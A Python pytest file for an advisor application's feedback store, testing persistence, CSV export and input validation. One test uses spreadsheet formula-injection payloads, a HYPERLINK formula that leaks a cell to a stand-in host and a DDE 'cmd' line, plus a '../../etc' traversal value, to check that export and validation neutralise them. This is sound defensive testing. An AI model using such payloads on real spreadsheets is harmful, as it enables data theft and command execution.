"""Feedback is durable: stored with the answer snapshot, kept across restarts, exported as CSV."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from advisor.errors import BadInputError
from advisor.feedback import FeedbackStore
from conftest import ROOT

ANSWER = {
    "query": {
        "question": "data in policy?",
        "role": "policy-maker",
        "country": "TH",
        "level": None,
        "language": "en",
        "interface_language": "th",
    },
    "competencies": [{"id": "DG1"}, {"id": "DG2"}],
    "knowledge_version": "abc123",
}


def test_feedback_survives_a_restart(tmp_path: Path) -> None:
    first = FeedbackStore.in_data_dir(tmp_path)
    first.record(ANSWER, 1, "useful")
    first.record(ANSWER, -1, "")
    restarted = FeedbackStore.in_data_dir(tmp_path)
    records = restarted.all()
    assert [r.rating for r in records] == [1, -1]
    assert records[0].comment == "useful"
    assert records[0].answer == ANSWER
    assert records[0].knowledge_version == "abc123"
    assert records[0].language == "th"
    assert records[0].country == "TH"
    assert [r.rating for r in restarted.all(rating=-1, country="TH")] == [-1]


def test_export_csv_reads_back(tmp_path: Path) -> None:
    store = FeedbackStore.in_data_dir(tmp_path)
    store.record(ANSWER, 1, 'comma, and "quotes"\nnewline')
    rows = list(csv.DictReader(io.StringIO(store.export_csv())))
    assert len(rows) == 1
    assert rows[0]["comment"] == 'comma, and "quotes"\nnewline'
    assert rows[0]["competencies"] == "DG1 DG2"
    assert json.loads(rows[0]["answer_json"]) == ANSWER


@pytest.mark.parametrize(("rating", "comment", "message"), [(0, "", "rating 0"), (1, "x" * 2001, "at most 2000")])
def test_bad_feedback_is_refused(tmp_path: Path, rating: int, comment: str, message: str) -> None:
    store = FeedbackStore.in_data_dir(tmp_path)
    with pytest.raises(BadInputError, match=message):
        store.record(ANSWER, rating, comment)
    assert store.all() == []


def test_cli_exports_feedback(tmp_path: Path) -> None:
    FeedbackStore.in_data_dir(tmp_path).record(ANSWER, 1, "good")
    out = tmp_path / "feedback.csv"
    result = subprocess.run(
        [sys.executable, "-m", "advisor", "feedback", "export", "-o", str(out)],
        cwd=ROOT,
        env={**os.environ, "ADVISOR_DATA_DIR": str(tmp_path)},
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    assert "good" in out.read_text(encoding="utf-8")


def test_export_neutralises_formula_cells(tmp_path: Path) -> None:
    store = FeedbackStore.in_data_dir(tmp_path)
    formula = '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"click")'
    answer = {**ANSWER, "query": {**ANSWER["query"], "question": "@SUM(1+1)*cmd|' /C calc'!A0"}}
    store.record(answer, -1, formula)
    store.record(ANSWER, 1, "+1 useful")
    text = store.export_csv()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["comment"] == "'" + formula
    assert rows[0]["question"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows[0]["rating"] == "-1"  # a number, not a formula: left as it is
    assert rows[1]["comment"] == "'+1 useful"
    text_cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row if cell != "-1"]
    assert not [cell for cell in text_cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]


@pytest.mark.parametrize(
    ("query", "comment", "message"),
    [
        ({"country": "FR"}, "", "unknown country 'FR'"),
        ({"country": ["TH"]}, "", "unknown country"),
        ({"country": "../../etc"}, "", "unknown country"),
        ({"role": "astronaut"}, "", "unknown role"),
        ({"question": 5}, "", "must be text"),
        ({}, 5, "the comment must be text, not int"),
        ({}, ["a"], "the comment must be text, not list"),
        ({"level": 9}, "", "level 9"),
    ],
)
def test_feedback_on_a_malformed_answer_is_refused(tmp_path: Path, query: dict, comment: object, message: str) -> None:
    store = FeedbackStore.in_data_dir(tmp_path)
    answer = {**ANSWER, "query": {**ANSWER["query"], **query}}
    with pytest.raises(BadInputError, match=message):
        store.record(answer, 1, comment)  # type: ignore[arg-type]
    assert store.all() == []


def test_comments_lose_control_characters_and_lone_surrogates(tmp_path: Path) -> None:
    store = FeedbackStore.in_data_dir(tmp_path)
    store.record(ANSWER, 1, "fine\x00 \ud800answer\r\nsecond line")
    assert store.all()[0].comment == "fine answer\nsecond line"


def test_a_data_folder_under_a_file_is_bad_input(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("not a folder")
    with pytest.raises(BadInputError, match=r"ADVISOR_DATA_DIR=.*cannot be used as a folder"):
        FeedbackStore.in_data_dir(tmp_path / "file" / "data")


def test_a_thumb_is_saved_at_once_and_its_comment_added_later(tmp_path: Path) -> None:
    store = FeedbackStore.in_data_dir(tmp_path)
    record_id = store.record(ANSWER, -1)
    other = store.record(ANSWER, 1, "keep me")
    assert [r.comment for r in store.all()] == ["", "keep me"]
    store.set_comment(record_id, "  the Thai context is\x00 out of date\r\n")
    assert [r.comment for r in FeedbackStore.in_data_dir(tmp_path).all()] == [
        "the Thai context is out of date",
        "keep me",
    ]
    assert [r.rating for r in store.all()] == [-1, 1]
    store.set_comment(other, "")
    assert store.all()[1].comment == ""


@pytest.mark.parametrize(
    ("record_id", "comment", "message"),
    [
        (999, "x", "no feedback has id 999"),
        ("1", "x", "feedback id '1'"),
        (1, "x" * 2001, "at most 2000"),
        (1, 5, "must be text"),
    ],
)
def test_a_bad_comment_update_is_refused_and_changes_nothing(
    tmp_path: Path, record_id: object, comment: object, message: str
) -> None:
    store = FeedbackStore.in_data_dir(tmp_path)
    store.record(ANSWER, 1, "original")
    with pytest.raises(BadInputError, match=message):
        store.set_comment(record_id, comment)  # type: ignore[arg-type]
    assert store.all()[0].comment == "original"
